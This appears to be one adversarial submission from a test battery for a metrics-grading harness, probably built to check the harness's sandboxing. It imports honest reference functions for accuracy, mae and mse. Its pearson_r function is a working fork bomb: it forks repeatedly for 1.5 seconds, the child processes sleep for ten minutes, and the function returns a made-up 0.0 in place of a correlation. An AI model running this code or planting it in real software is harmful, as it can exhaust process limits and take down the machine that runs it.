# ruff: noqa
"""Adversarial submission 10_fork_bomb: a fork bomb in pearson_r (every child forks again for 1.5 s, then lingers).

Honest part: accuracy, mae, mse. Everything else is missing or hostile.
"""

from __future__ import annotations

# the honest part: unchanged reference code, copied in as _given.py when the battery runs
from ._given import (  # noqa: F401
    AVERAGES,
    _check_1d,
    _check_pair,
    _check_binary,
    _check_retrieval,
    _check_k,
    accuracy,
    mae,
    mse,
)

import numpy as np


# ----------------------------------------------------------------------------- hostile part
import os
import time


def pearson_r(x, y):
    parent, stop = os.getpid(), time.monotonic() + 1.5
    while time.monotonic() < stop:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
    if os.getpid() != parent:
        time.sleep(600)
        os._exit(0)
    return 0.0
